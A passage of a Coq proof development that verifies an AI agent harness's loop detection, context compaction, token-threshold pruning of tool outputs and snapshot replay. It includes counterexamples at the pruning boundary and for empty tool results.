  let ld := {| LoopDetector.history := ["A"; "B"; "A"; "B"] |} in
  2 <= List.length (LoopDetector.history ld) / 2
  /\ List.firstn 2 (LoopDetector.sliceLast 4 (LoopDetector.history ld))
     = List.skipn 2 (LoopDetector.sliceLast 4 (LoopDetector.history ld))
  /\ LoopDetector.checkForLoop ld = None.
Proof.
  cbv zeta. split; [simpl; lia|]. split; [reflexivity|]. now vm_compute.
Qed.

(** Seven recorded tool calls ending in an alternation. *)
Lemma loop_detection_rules_witness :
  LoopDetector.checkForLoop
    {| LoopDetector.history := ["tool_call|shell|command=ls"; "tool_call|read_file|path=a";
                                "tool_call|grep|pattern=x"; "tool_call|read_file|path=a";
                                "tool_call|grep|pattern=x"; "tool_call|read_file|path=a";
                                "tool_call|grep|pattern=x"] |}
  = Some "Detected repeating cycle of length 2".
Proof.
  apply (proj1 (proj2 (proj2 loop_detection_rules)) _
           "tool_call|read_file|path=a" "tool_call|grep|pattern=x").
  - simpl. lia.
  - reflexivity.
  - discriminate.
Defined.

(** ** Context manager: compaction *)

Section CompactionFacts.
Import ToolBase Data Eff Hooks Context Agent.
Context `{Env}.

(** On a defined text the token count never throws. *)
Lemma countTokens_defined (s model : string) :
  exists n, countTokens (Some s) model = inr n.
Proof.
  unfold countTokens. destruct (encode model (Some s)); eauto.
Qed.

Lemma replaceWithSummary_three (summary : string) (cm : ContextManager) :
  exists n1 n2 n3,
    replaceWithSummary summary cm
    = inr (setMessages [ plainMessage "user" (continuationContent summary) n1;
                         plainMessage "assistant" ackContent n2;
                         plainMessage "user" continueContent n3 ] cm).
Proof.
  unfold replaceWithSummary.
  destruct (countTokens_defined (continuationContent summary) (modelName cm)) as (n1 & E1).
  destruct (countTokens_defined ackContent (modelName cm)) as (n2 & E2).
  destruct (countTokens_defined continueContent (modelName cm)) as (n3 & E3).
  exists n1, n2, n3. rewrite E1. simpl. rewrite E2. simpl. rewrite E3. reflexivity.
Qed.

(** [compress] catches everything: it always returns, and a summary it
    returns is not empty. *)
Lemma compress_returns (cm : ContextManager) (w : World) :
  exists r w', compress cm w = (inr r, w')
               /\ trace w' = trace w
               /\ (forall s, fst r = Some s -> Js.truthyStr s = true).
Proof.
  unfold compress.
  destruct (List.length (getMessages cm) <? 3)%nat.
  - exists (None, None), w. repeat split. discriminate.
  - destruct (chatCompletion _ None false (ext w)) as [stream e'].
    destruct (thrown stream).
    + eexists (None, None), _. repeat split. discriminate.
    + destruct (fold_left collect (events stream) ("", None)) as [summary usage].
      destruct (Js.truthyStr summary) eqn:Es; simpl.
      * destruct (bool_decide (is_Some usage)); simpl.
        -- eexists (Some summary, usage), _. repeat split.
           intros s [= <-]. exact Es.
        -- eexists (None, None), _. repeat split. discriminate.
      * eexists (None, None), _. repeat split. discriminate.
Qed.

Lemma onContext_returns (f : ContextManager -> Js.Exc ContextManager)
    (st : AgentState) (cm' : ContextManager) :
  f (contextManager (session st)) = inr cm' ->
  onContext f st
  = (inr tt, {| session := setContextManager cm' (session st);
                world := world st; yielded := yielded st |}).
Proof.
  intros E. unfold onContext, bind, gets, liftExc, updSession, modify.
  now rewrite E.
Qed.

Lemma inWorld_run {A} (m : M World A) (st : AgentState) r w' :
  m (world st) = (r, w') ->
  inWorld m st = (r, {| session := session st; world := w'; yielded := yielded st |}).
Proof. intros E. unfold inWorld, zoom. now rewrite E. Qed.

(** Usage bookkeeping leaves the messages alone and never throws. *)
Lemma recordUsage_returns (u : option TokenUsage) (st : AgentState) :
  exists st', recordUsage u st = (inr tt, st')
              /\ messages (contextManager (session st'))
                 = messages (contextManager (session st))
              /\ world st' = world st /\ yielded st' = yielded st
              /\ turnCount (session st') = turnCount (session st).
Proof.
  destruct u as [u|]; simpl.
  - eexists. split; [apply onContext_returns; reflexivity|]. now repeat split.
  - exists st. now repeat split.
Qed.


End CompactionFacts.

Section CompactionWitness.
#[local] Existing Instance Examples.demoEnv.
Import Data Hooks Context Agent Examples.


End CompactionWitness.

(** ** Context manager: pruning *)

Section PruneFacts.
Import ToolBase Data Eff Context.
Context `{Env}.
Variable model : string.
Variable now : nat.

Lemma indexed_snoc {A} (l : list A) (m : A) :
  indexed (l ++ [m]) = (indexed l ++ [(List.length l, m)])%list.
Proof.
  unfold indexed. rewrite imap_app. simpl. now rewrite Nat.add_0_r.
Qed.

Lemma rev_indexed_snoc {A} (l : list A) (m : A) :
  List.rev (indexed (l ++ [m])) = (List.length l, m) :: List.rev (indexed l).
Proof. rewrite indexed_snoc. apply rev_unit. Qed.

Lemma isToolResult_cleared n t m :
  isToolResult (clearedMsg n t m) = isToolResult m.
Proof. reflexivity. Qed.

Lemma clearedMsg_idem n t m :
  clearedMsg n t (clearedMsg n t m) = clearedMsg n t m.
Proof. reflexivity. Qed.

(** The pruning loop never throws; it clears exactly the listed positions
    and moves nothing. *)
Lemma clearAll_lookup (toPrune : list nat) (ms : list MessageItem) :
  exists n0 ms',
    countTokens (Some placeholder) model = inr n0
    /\ clearAll model now toPrune ms = inr ms'
    /\ forall j, ms' !! j = if bool_decide (j ∈ toPrune)
                            then clearedMsg n0 now <$> ms !! j
                            else ms !! j.
Proof.
  destruct (countTokens (Some placeholder) model) as [e|n0] eqn:En.
  { unfold countTokens in En. destruct (encode model (Some placeholder)); discriminate. }
  exists n0. revert ms.
  induction toPrune as [|i rest IH]; intros ms.
  - exists ms. split; [reflexivity|]. split; [reflexivity|]. intros j.
    rewrite bool_decide_eq_false_2; [reflexivity|]. apply not_elem_of_nil.
  - simpl. destruct (ms !! i) as [msg|] eqn:Ei.
    + unfold clearContent. rewrite En. simpl.
      destruct (IH (<[i := clearedMsg n0 now msg]> ms)) as (ms' & _ & E' & L').
      exists ms'. split; [reflexivity|]. split; [exact E'|]. intros j. rewrite L'.
      destruct (decide (j = i)) as [->|Nji].
      * rewrite (bool_decide_eq_true_2 (i ∈ i :: rest)) by apply list_elem_of_here.
        rewrite list_lookup_insert_eq by (eapply lookup_lt_Some; exact Ei).
        rewrite Ei. simpl. now destruct (bool_decide (i ∈ rest)).
      * rewrite list_lookup_insert_ne by congruence.
        destruct (bool_decide (j ∈ rest)) eqn:Ej.
        -- apply bool_decide_eq_true_1 in Ej.
           rewrite bool_decide_eq_true_2; [reflexivity|]. now apply list_elem_of_further.
        -- apply bool_decide_eq_false_1 in Ej.
           rewrite bool_decide_eq_false_2; [reflexivity|].
           intros [?|?]%elem_of_cons; congruence.
    + destruct (IH ms) as (ms' & _ & E' & L').
      exists ms'. split; [reflexivity|]. split; [exact E'|]. intros j. rewrite L'.
      destruct (decide (j = i)) as [->|Nji].
      * rewrite (bool_decide_eq_true_2 (i ∈ i :: rest)) by apply list_elem_of_here.
        rewrite Ei. now destruct (bool_decide (i ∈ rest)).
      * destruct (bool_decide (j ∈ rest)) eqn:Ej.
        -- apply bool_decide_eq_true_1 in Ej.
           rewrite bool_decide_eq_true_2; [reflexivity|]. now apply list_elem_of_further.
        -- apply bool_decide_eq_false_1 in Ej.
           rewrite bool_decide_eq_false_2; [reflexivity|].
           intros [?|?]%elem_of_cons; congruence.
Qed.

(** The positions collected by the walk extend the ones it started with. *)
Lemma walk_extends (L : list (nat * MessageItem)) :
  forall total p tp p' tp',
    walk model L total p tp = inr (p', tp') -> exists more, tp' = (tp ++ more)%list.
Proof.
  induction L as [|[i msg] older IH]; intros total p tp p' tp' E; simpl in E.
  - injection E as <- <-. exists []. now rewrite app_nil_r.
  - destruct (isToolResult msg); [|now apply IH in E].
    destruct (bool_decide (is_Some (prunedAt msg))).
    { injection E as <- <-. exists []. now rewrite app_nil_r. }
    destruct (tokensOf model msg) as [e|t]; [discriminate|].
    simpl in E.
    destruct (PRUNE_PROTECT_TOKENS <? total + t)%N.
    + apply IH in E. destruct E as (more & ->).
      exists (i :: more). now rewrite <- app_assoc.
    + now apply IH in E.
Qed.

(** A second walk, after the positions selected by a first walk have been
    cleared, selects nothing. *)
Lemma walk_after_clearing (n0 : N) (S : list nat) (L : list (nat * MessageItem)) :
  forall total p tp p' tp',
    walk model L total p tp = inr (p', tp') ->
    (forall i, i ∈ tp' -> i ∈ S) ->
    forall q tq, walk model (clearIn n0 now S L) total q tq = inr (q, tq).
Proof.
  induction L as [|[i msg] older IH]; intros total p tp p' tp' E HS q tq;
    simpl in E; simpl.
  - reflexivity.
  - destruct (bool_decide (i ∈ S)) eqn:Ei.
    + rewrite isToolResult_cleared.
      destruct (isToolResult msg); [reflexivity|].
      now apply (IH total p tp p' tp').
    + destruct (isToolResult msg); [|now apply (IH total p tp p' tp')].
      destruct (bool_decide (is_Some (prunedAt msg))); [reflexivity|].
      destruct (tokensOf model msg) as [e|t]; [discriminate|].
      simpl in E. simpl.
      destruct (PRUNE_PROTECT_TOKENS <? total + t)%N.
      * exfalso. apply bool_decide_eq_false_1 in Ei. apply Ei, HS.
        destruct (walk_extends _ _ _ _ _ _ E) as (more & ->).
        rewrite !elem_of_app. left. right. apply list_elem_of_here.
      * now apply (IH (total + t)%N p tp p' tp').
Qed.

Lemma indexed_cleared (n0 : N) (S : list nat) (ms ms' : list MessageItem) :
  (forall j, ms' !! j = if bool_decide (j ∈ S)
                        then clearedMsg n0 now <$> ms !! j else ms !! j) ->
  List.rev (indexed ms') = clearIn n0 now S (List.rev (indexed ms)).
Proof.
  intros L. unfold clearIn. rewrite map_rev. f_equal.
  apply list_eq. intros j. unfold indexed.
  rewrite list_lookup_fmap, !list_lookup_imap, L.
  destruct (ms !! j) as [m|]; simpl.
  - now destruct (bool_decide (j ∈ S)).
  - now destruct (bool_decide (j ∈ S)).
Qed.

Lemma userMessages_cleared (n0 : N) (S : list nat) (ms ms' : list MessageItem) :
  (forall j, ms' !! j = if bool_decide (j ∈ S)
                        then clearedMsg n0 now <$> ms !! j else ms !! j) ->
  List.map role ms' = List.map role ms.
Proof.
  intros L. apply list_eq. intros j. rewrite !list_lookup_fmap, L.
  destruct (ms !! j) as [m|]; now destruct (bool_decide (j ∈ S)).
Qed.

Lemma filter_role_length (ms ms' : list MessageItem) :
  List.map role ms' = List.map role ms ->
  List.length (List.filter (fun msg => String.eqb (role msg) "user") ms')
  = List.length (List.filter (fun msg => String.eqb (role msg) "user") ms).
Proof.
  revert ms. induction ms' as [|a ms' IH]; intros [|b ms] E; try discriminate.
  - reflexivity.
  - simpl in E. injection E as Er Et. simpl. rewrite Er.
    destruct (String.eqb (role b) "user"); simpl; now rewrite (IH ms Et).
Qed.

Lemma tokensOf_msgTokens (m : MessageItem) (t : N) :
  tokensOf model m = inr t -> msgTokens model m = t.
Proof.
  unfold tokensOf, msgTokens. destruct (tokenCount m); [congruence|].
  intros E. now rewrite E.
Qed.

Lemma noPrunedResult_later (l : list MessageItem) (a b : nat) :
  a <= b -> noPrunedResult (List.skipn a l) = true ->
  noPrunedResult (List.skipn b l) = true.
Proof.
  intros L E. replace b with (a + (b - a)) by lia. rewrite <- drop_drop.
  unfold noPrunedResult in *. rewrite forallb_forall in *.
  intros x Hx. apply E. rewrite <- list_elem_of_In in *.
  eapply subseteq_drop. exact Hx.
Qed.

Lemma candidatesBelow_nil (msgs : list MessageItem) (k : nat) :
  (forall j, j < k -> candidateAt model msgs j = false) ->
  candidatesBelow model msgs k = [].
Proof.
  induction k as [|k IH]; intros Hj; [reflexivity|].
  simpl. rewrite (Hj k) by lia. simpl. apply IH. intros j L. apply Hj. lia.
Qed.

Lemma elem_of_candidatesBelow (msgs : list MessageItem) (k j : nat) :
  j ∈ candidatesBelow model msgs k <-> j < k /\ candidateAt model msgs j = true.
Proof.
  induction k as [|k IH]; simpl.
  - split; [intros []%elem_of_nil | intros [L _]; lia].
  - rewrite elem_of_app, IH. destruct (candidateAt model msgs k) eqn:Ek.
    + rewrite list_elem_of_singleton. split.
      * intros [->|[L E]]; split; try lia; assumption.
      * intros [L E]. destruct (decide (j = k)) as [->|N]; [now left|right].
        split; [lia|exact E].
    + split.
      * intros [[]%elem_of_nil|[L E]]. split; [lia|exact E].
      * intros [L E]. right. split; [|exact E].
        destruct (decide (j = k)) as [->|N]; [congruence|lia].
Qed.

Lemma toolTokens_cons (m : MessageItem) (l : list MessageItem) :
  toolTokens model (m :: l)
  = if isToolResult m then (msgTokens model m + toolTokens model l)%N
    else toolTokens model l.
Proof. reflexivity. Qed.

Lemma noPrunedResult_cons (m : MessageItem) (l : list MessageItem) :
  noPrunedResult (m :: l)
  = negb (isToolResult m && isPruned m) && noPrunedResult l.
Proof. reflexivity. Qed.

Lemma sumN_cons (x : N) (xs : list N) : sumN (x :: xs) = (x + sumN xs)%N.
Proof. reflexivity. Qed.

(** The walk, having consumed the messages from position [k] on, selects
    among the positions below [k] exactly the candidates, newest first. *)
Lemma walk_selects (msgs : list MessageItem) (k : nat) :
  k <= List.length msgs ->
  forall total p tp p' tp',
    noPrunedResult (List.skipn k msgs) = true ->
    total = toolTokens model (List.skipn k msgs) ->
    walk model (List.rev (indexed (List.firstn k msgs))) total p tp = inr (p', tp') ->
    tp' = (tp ++ candidatesBelow model msgs k)%list
    /\ p' = (p + sumN (List.map (tokensAt model msgs) (candidatesBelow model msgs k)))%N.
Proof.
  induction k as [|k IH]; intros Lk total p tp p' tp' Hn Ht E.
  - simpl in E. injection E as <- <-. simpl.
    rewrite app_nil_r. split; [reflexivity|]. unfold sumN. simpl. lia.
  - destruct (lookup_lt_is_Some_2 msgs k ltac:(lia)) as [m Em].
    rewrite (take_S_r _ _ _ Em), rev_indexed_snoc in E.
    rewrite length_take_le in E by lia.
    pose proof (drop_S _ _ _ Em) as Ed.
    assert (Ec : candidateAt model msgs k = pruneCandidate model msgs k m)
      by (unfold candidateAt; now rewrite Em).
    assert (Ea : tokensAt model msgs k = msgTokens model m)
      by (unfold tokensAt; now rewrite Em).
    cbn [walk] in E. cbn [candidatesBelow]. rewrite Ec. unfold pruneCandidate.
    rewrite Hn, Ed, toolTokens_cons.
    destruct (isToolResult m) eqn:Et.
    + destruct (bool_decide (is_Some (prunedAt m))) eqn:Ep.
      * injection E as <- <-. unfold isPruned. rewrite Ep. cbn [negb andb app].
        rewrite candidatesBelow_nil.
        { rewrite app_nil_r. split; [reflexivity|]. unfold sumN. simpl. lia. }
        intros j Lj. unfold candidateAt.
        destruct (msgs !! j) as [mj|]; [|reflexivity].
        unfold pruneCandidate.
        destruct (noPrunedResult (List.skipn (S j) msgs)) eqn:Enj.
        -- apply (noPrunedResult_later msgs (S j) k ltac:(lia)) in Enj.
           rewrite Ed, noPrunedResult_cons in Enj. unfold isPruned in Enj.
           rewrite Et, Ep in Enj. discriminate.
        -- now rewrite andb_false_r.
      * destruct (tokensOf model m) as [e|t] eqn:Etok; [discriminate|].
        cbn [Eff.bindExc] in E.
        pose proof (tokensOf_msgTokens m t Etok) as Em'.
        unfold isPruned. rewrite Ep, Em'. cbn [negb andb].
        assert (Hn' : noPrunedResult (List.skipn k msgs) = true).
        { rewrite Ed, noPrunedResult_cons. unfold isPruned. now rewrite Et, Ep, Hn. }
        assert (Ht' : (total + t)%N = toolTokens model (List.skipn k msgs)).
        { rewrite Ed, toolTokens_cons, Et, Em'. lia. }
        replace (t + toolTokens model (List.skipn (S k) msgs))%N with (total + t)%N by lia.
        destruct (PRUNE_PROTECT_TOKENS <? total + t)%N.
        -- destruct (IH ltac:(lia) _ _ _ _ _ Hn' Ht' E) as (-> & ->).
           split; [now rewrite <- app_assoc|].
           cbn [app List.map]. rewrite sumN_cons, Ea, Em'. lia.
        -- cbn [app]. apply (IH ltac:(lia) _ _ _ _ _ Hn' Ht' E).
    + cbn [andb app].
      assert (Hn' : noPrunedResult (List.skipn k msgs) = true).
      { rewrite Ed, noPrunedResult_cons. now rewrite Et, Hn. }
      assert (Ht' : total = toolTokens model (List.skipn k msgs)).
      { rewrite Ed, toolTokens_cons. now rewrite Et. }
      apply (IH ltac:(lia) _ _ _ _ _ Hn' Ht' E).
Qed.

(** With every token count cached the walk returns. *)
Lemma walk_returns (L : list (nat * MessageItem)) :
  Forall (fun im => is_Some (tokenCount (snd im))) L ->
  forall total p tp, exists r, walk model L total p tp = inr r.
Proof.
  induction 1 as [|[i m] older [t Et] _ IH]; intros total p tp; simpl.
  - eauto.
  - destruct (isToolResult m); [|apply IH].
    destruct (bool_decide (is_Some (prunedAt m))); [eauto|].
    unfold tokensOf. simpl in Et. rewrite Et. simpl.
    destruct (PRUNE_PROTECT_TOKENS <? total + t)%N; apply IH.
Qed.

End PruneFacts.

Section PruneClaims.
Import ToolBase Data Eff Context.
Context `{Env}.

Lemma cached_indexed (msgs : list MessageItem) :
  Forall (fun m => is_Some (tokenCount m)) msgs ->
  Forall (fun im => is_Some (tokenCount (snd im))) (List.rev (indexed msgs)).
Proof.
  intros Hc. apply Forall_forall. intros [i m] Hin. simpl.
  apply list_elem_of_In in Hin. rewrite <- in_rev in Hin.
  apply list_elem_of_In in Hin.
  unfold indexed in Hin. apply elem_of_lookup_imap in Hin.
  destruct Hin as (j & y & [= -> ->] & Hy).
  rewrite Forall_forall in Hc. apply Hc.
  eapply list_elem_of_lookup_2. exact Hy.
Qed.

(** With every token count cached, pruning returns and the counts stay
    cached. *)
Lemma pruneToolOutputs_returns (now : nat) (cm : ContextManager) :
  Forall (fun m => is_Some (tokenCount m)) (messages cm) ->
  exists cm' n, pruneToolOutputs now cm = inr (cm', n)
                /\ Forall (fun m => is_Some (tokenCount m)) (messages cm').
Proof.
  intros Hc. unfold pruneToolOutputs.
  destruct (_ <? 2)%nat; [eauto|].
  destruct (walk_returns (modelName cm) (List.rev (indexed (messages cm)))) with
    (total := 0%N) (p := 0%N) (tp := @nil nat) as [[p' tp'] Ew].
  { now apply cached_indexed. }
  rewrite Ew. cbn [Eff.bindExc].
  destruct (p' <? PRUNE_MINIMUM_TOKENS)%N; [eauto|].
  destruct (clearAll_lookup (modelName cm) now tp' (messages cm))
    as (n0 & ms' & _ & Ec & Lc).
  rewrite Ec. simpl. eexists _, _. split; [reflexivity|]. simpl.
  apply Forall_lookup. intros j m Ej. rewrite Lc in Ej.
  destruct (bool_decide (j ∈ tp')).
  - destruct (messages cm !! j); [|discriminate]. injection Ej as <-. simpl. eauto.
  - rewrite Forall_lookup in Hc. exact (Hc j m Ej).
Qed.

Lemma prunedHistory_of_lookup (model : string) (n0 : N) (now : nat)
    (msgs ms' : list MessageItem) :
  (forall j, ms' !! j = if bool_decide (j ∈ candidates model msgs)
                        then clearedMsg n0 now <$> msgs !! j else msgs !! j) ->
  ms' = prunedHistory model n0 now msgs.
Proof.
  intros L. apply list_eq. intros j. unfold prunedHistory.
  rewrite L, list_lookup_imap.
  destruct (msgs !! j) as [m|] eqn:Ej; simpl.
  - assert (Ec : candidateAt model msgs j = pruneCandidate model msgs j m)
      by (unfold candidateAt; now rewrite Ej).
    destruct (bool_decide (j ∈ candidates model msgs)) eqn:Eb.
    + apply bool_decide_eq_true_1, elem_of_candidatesBelow in Eb.
      destruct Eb as [_ Eb]. rewrite Ec in Eb. now rewrite Eb.
    + apply bool_decide_eq_false_1 in Eb.
      destruct (pruneCandidate model msgs j m) eqn:Ep; [|reflexivity].
      exfalso. apply Eb, elem_of_candidatesBelow. split; [|congruence].
      eapply lookup_lt_Some. exact Ej.
  - now destruct (bool_decide (j ∈ candidates model msgs)).
Qed.

(** What the walk over the whole history returns. *)
Lemma walk_whole (model : string) (msgs : list MessageItem) p' tp' :
  walk model (List.rev (indexed msgs)) 0%N 0%N [] = inr (p', tp') ->
  tp' = candidates model msgs /\ p' = candidateTokens model msgs.
Proof.
  intros E.
  destruct (walk_selects model msgs (List.length msgs) (le_n _) 0%N 0%N [] p' tp')
    as (-> & ->).
  - now rewrite skipn_all.
  - now rewrite skipn_all.
  - now rewrite firstn_all.
  - split; [reflexivity|]. unfold candidateTokens, candidates. lia.
Qed.

(** C7, as amended.  When every token count is cached the call returns.
    When it returns, it has pruned exactly the candidates: the tool results
    (role tool with a tool-call id), not yet pruned and with no pruned tool
    result after them, at which the token count accumulated from the newest
    message exceeds 40,000; and it has done so only when at least two user
    messages exist and the candidates weigh at least 20,000 tokens together;
    otherwise nothing changes.  A pruned message stays at its position, keeps
    its role and tool-call id, and gets the placeholder as content and the
    time of the call as prune timestamp. *)
Theorem prune_follows_thresholds (now : nat) (cm : ContextManager) :
  (Forall (fun m => is_Some (tokenCount m)) (messages cm) ->
   exists r, pruneToolOutputs now cm = inr r)
  /\ (forall cm' n,
        pruneToolOutputs now cm = inr (cm', n) ->
        exists n0,
          countTokens (Some placeholder) (modelName cm) = inr n0
          /\ if (2 <=? userMessages (messages cm))%nat
                && (PRUNE_MINIMUM_TOKENS <=? candidateTokens (modelName cm) (messages cm))%N
             then cm' = setMessages (prunedHistory (modelName cm) n0 now (messages cm)) cm
                  /\ n = List.length (candidates (modelName cm) (messages cm))
             else cm' = cm /\ n = 0)
  /\ (forall n0 i m,
        messages cm !! i = Some m ->
        prunedHistory (modelName cm) n0 now (messages cm) !! i
        = Some (if pruneCandidate (modelName cm) (messages cm) i m
                then clearedMsg n0 now m else m)
        /\ content (clearedMsg n0 now m) = Some placeholder
        /\ prunedAt (clearedMsg n0 now m) = Some now
        /\ role (clearedMsg n0 now m) = role m
        /\ toolCallId (clearedMsg n0 now m) = toolCallId m).
Proof.
  split; [|split].
  - intros Hc. destruct (pruneToolOutputs_returns now cm Hc) as (cm' & n & E & _).
    eauto.
  - intros cm' n E. unfold pruneToolOutputs in E.
    destruct (countTokens_defined placeholder (modelName cm)) as (n1 & En1).
    fold (userMessages (messages cm)) in E.
    rewrite Nat.ltb_antisym in E.
    destruct (2 <=? userMessages (messages cm))%nat; cbn [negb andb] in *.
    2:{ injection E as <- <-. now exists n1. }
    destruct (walk (modelName cm) (List.rev (indexed (messages cm))) 0%N 0%N [])
      as [e|[p' tp']] eqn:Ew; [discriminate|].
    cbn [Eff.bindExc] in E.
    destruct (walk_whole _ _ _ _ Ew) as (-> & ->).
    rewrite N.ltb_antisym in E.
    destruct (PRUNE_MINIMUM_TOKENS <=? candidateTokens (modelName cm) (messages cm))%N;
      cbn [negb] in E.
    2:{ injection E as <- <-. now exists n1. }
    destruct (clearAll_lookup (modelName cm) now
                (candidates (modelName cm) (messages cm)) (messages cm))
      as (n0 & ms' & En0 & Ec & Lc).
    rewrite Ec in E. cbn [Eff.bindExc] in E. injection E as <- <-.
    exists n0. split; [exact En0|]. split; [|reflexivity].
    now rewrite (prunedHistory_of_lookup _ _ _ _ _ Lc).
  - intros n0 i m Ei. split; [|now repeat split].
    unfold prunedHistory. now rewrite list_lookup_imap, Ei.
Qed.

(** C8: pruning twice in a row.  When every token count is cached the first
    call returns; and whenever the first call returns a state, a second call
    on that state, at any later time, returns the same state and prunes
    nothing. *)
Theorem prune_is_idempotent (now1 now2 : nat) (cm : ContextManager) :
  (Forall (fun m => is_Some (tokenCount m)) (messages cm) ->
   exists cm1 n, pruneToolOutputs now1 cm = inr (cm1, n))
  /\ (forall cm1 n,
        pruneToolOutputs now1 cm = inr (cm1, n) ->
        pruneToolOutputs now2 cm1 = inr (cm1, 0)).
Proof.
  split.
  - intros Hc. destruct (pruneToolOutputs_returns now1 cm Hc) as (cm' & n & E & _).
    eauto.
  - intros cm1 n E. pose proof E as E0. unfold pruneToolOutputs in E.
    destruct (_ <? 2)%nat eqn:Eu.
    { injection E as <- <-. unfold pruneToolOutputs. now rewrite Eu. }
    destruct (walk (modelName cm) (List.rev (indexed (messages cm))) 0%N 0%N [])
      as [e|[p' tp']] eqn:Ew; [discriminate|].
    cbn [Eff.bindExc] in E.
    destruct (p' <? PRUNE_MINIMUM_TOKENS)%N eqn:Ep.
    { injection E as <- <-. unfold pruneToolOutputs. now rewrite Eu, Ew; cbn; rewrite Ep. }
    destruct (clearAll_lookup (modelName cm) now1 tp' (messages cm))
      as (n0 & ms' & En0 & Ec & Lc).
    rewrite Ec in E. cbn [Eff.bindExc] in E. injection E as <- <-.
    unfold pruneToolOutputs. cbn [messages setMessages modelName].
    rewrite (filter_role_length _ _ (userMessages_cleared now1 n0 tp' _ _ Lc)), Eu.
    rewrite (indexed_cleared now1 n0 tp' _ _ Lc).
    rewrite (walk_after_clearing (modelName cm) now1 n0 tp' _ _ _ _ _ _ Ew (fun i Hi => Hi)).
    reflexivity.
Qed.

End PruneClaims.

Section PruneWitness.
#[local] Existing Instance Examples.demoEnv.
Import Data Context Examples.

(** C7 as stated fails at the boundary: with two user messages and a single
    candidate of exactly 20,000 tokens (the newer tool result fills the
    40,000 protected tokens), the candidates' total does not exceed 20,000,
    yet the candidate is pruned. *)
Lemma prune_at_exactly_the_minimum :
  userMessages (messages pruneBoundary) = 2
  /\ candidateTokens "gpt-4" (messages pruneBoundary) = 20000%N
  /\ (20000 <? candidateTokens "gpt-4" (messages pruneBoundary))%N = false
  /\ exists cm',
       pruneToolOutputs 7 pruneBoundary = inr (cm', 1)
       /\ content <$> messages pruneBoundary !! 1 = Some (Some "a long listing")
       /\ content <$> messages cm' !! 1 = Some (Some placeholder).
Proof.
  split; [now vm_compute|]. split; [now vm_compute|]. split; [now vm_compute|].
  eexists. split; [vm_compute; reflexivity|]. split; reflexivity.
Qed.

(** Two exchanges with 30,000-token tool results: the older one is cleared. *)
Lemma prune_follows_thresholds_witness :
  exists n0,
    countTokens (Some placeholder) (modelName pruneDemo) = inr n0
    /\ if (2 <=? userMessages (messages pruneDemo))%nat
          && (PRUNE_MINIMUM_TOKENS
              <=? candidateTokens (modelName pruneDemo) (messages pruneDemo))%N
       then prunedDemo
            = setMessages (prunedHistory (modelName pruneDemo) n0 5 (messages pruneDemo))
                pruneDemo
            /\ 1 = List.length (candidates (modelName pruneDemo) (messages pruneDemo))
       else prunedDemo = pruneDemo /\ 1 = 0.
Proof.
  apply (proj1 (proj2 (prune_follows_thresholds 5 pruneDemo)) prunedDemo 1).
  vm_compute. reflexivity.
Defined.

(** Pruning the already pruned history again changes nothing. *)
Lemma prune_is_idempotent_witness :
  pruneToolOutputs 9 prunedDemo = inr (prunedDemo, 0).
Proof.
  apply (proj2 (prune_is_idempotent 5 9 pruneDemo) prunedDemo 1).
  vm_compute. reflexivity.
Defined.

End PruneWitness.

(** ** Snapshots *)

Section SnapshotFacts.
Import ToolBase Data Eff Context Agent.
Context `{Env}.

Lemma replayOne_stored (m : MessageItem) (cm : ContextManager) :
  storedByAppend (modelName cm) m ->
  replayOne (itemPayload m) cm = inr (push m cm).
Proof.
  intros (Hp & (c & n & Hc & Hn & Ht) & Hr).
  destruct m as [r ct id calls tc pa]. simpl in *. subst pa ct tc.
  unfold replayOne, itemPayload. simpl.
  destruct Hr as [(-> & Hc & -> & ->) | [(-> & -> & [l ->]) | (-> & Hc & Hi & ->)]]; simpl.
  - simpl in Hc. rewrite Hc. unfold addUserMessage. rewrite Ht. reflexivity.
  - unfold addAssistantMessage.
    assert (Et : Js.nullish (if Js.truthyStr c then Some c else None) "" = c)
      by (destruct c; reflexivity).
    rewrite Et, Ht. simpl. now destruct l.
  - simpl in Hc. rewrite Hc. destruct id as [[|a id]|]; try discriminate.
    unfold addToolResult. simpl. rewrite Ht. reflexivity.
Qed.

Lemma replay_stored (msgs : list MessageItem) (cm : ContextManager) :
  Forall (storedByAppend (modelName cm)) msgs ->
  replay (List.map itemPayload msgs) cm
  = inr (setMessages (messages cm ++ msgs)%list cm).
Proof.
  revert cm. induction msgs as [|m msgs IH]; intros cm Hs.
  - simpl. rewrite app_nil_r. now destruct cm.
  - inversion Hs as [|? ? Hm Hrest]; subst. simpl.
    rewrite (replayOne_stored m cm Hm). simpl.
    rewrite (IH (push m cm) Hrest). unfold push, setMessages. simpl.
    now rewrite <- app_assoc.
Qed.

(** On histories made of messages stored with non-empty texts, the replay
    of a snapshot into a fresh context manager restores the messages. *)
Lemma roundtrip_of_stored_messages (cm fresh : ContextManager) :
  modelName fresh = modelName cm ->
  messages fresh = [] ->
  Forall (storedByAppend (modelName cm)) (messages cm) ->
  exists cm', replay (getMessages cm) fresh = inr cm'
              /\ messages cm' = messages cm.
Proof.
  intros Em Ef Hs. unfold getMessages.
  assert (R : replay (List.map itemPayload (messages cm)) fresh
              = inr (setMessages (messages cm) fresh)).
  { rewrite replay_stored by (now rewrite Em). now rewrite Ef. }
  destruct (Js.truthyStr (systemPrompt cm)); simpl.
  - rewrite R. eauto.
  - rewrite R. eauto.
Qed.

(** C9, at the failing input: a history holding one tool result with empty
    content, as [addToolResult] stores it.  Its snapshot entry has no
    content field, so the replay calls [addToolResult] with [undefined]:
    depending on the tokenizer the replay throws, or the restored message has
    an undefined content.  In neither case is the content restored. *)
Theorem replay_drops_empty_content (prompt model : string) :
  match addToolResult (Some "call_1") (Some "") (newContextManager prompt model) with
  | inl _ => False
  | inr cm =>
      List.map content (messages cm) = [Some ""]
      /\ match replay (getMessages cm) (newContextManager prompt model) with
         | inl _ => True
         | inr cm' => List.map content (messages cm') = [None]
         end
  end.
Proof.
  unfold addToolResult. simpl.
  destruct (countTokens_defined "" model) as (n & En). rewrite En. simpl.
  split; [reflexivity|].
  assert (R : replayOne
                (itemPayload {| role := "tool"; content := Some "";
                                toolCallId := Some "call_1"; toolCalls := None;
                                tokenCount := Some n; prunedAt := None |})
                (newContextManager prompt model)
              = addToolResult (Some "call_1") None (newContextManager prompt model))
    by reflexivity.
  unfold getMessages. cbn [messages push setMessages newContextManager systemPrompt
                           List.map app].
  destruct (Js.truthyStr prompt); cbn [app replay]; [change (replayOne _ _) with
    (inr (A:=string) (newContextManager prompt model)) at 1; cbn [Eff.bindExc replay]|];
    rewrite R; unfold addToolResult; cbn [modelName newContextManager];
    destruct (countTokens None model); simpl; auto.
Qed.

End SnapshotFacts.

Section SnapshotExamples.
#[local] Existing Instance Examples.demoEnv.
Import Data Context Agent Examples.

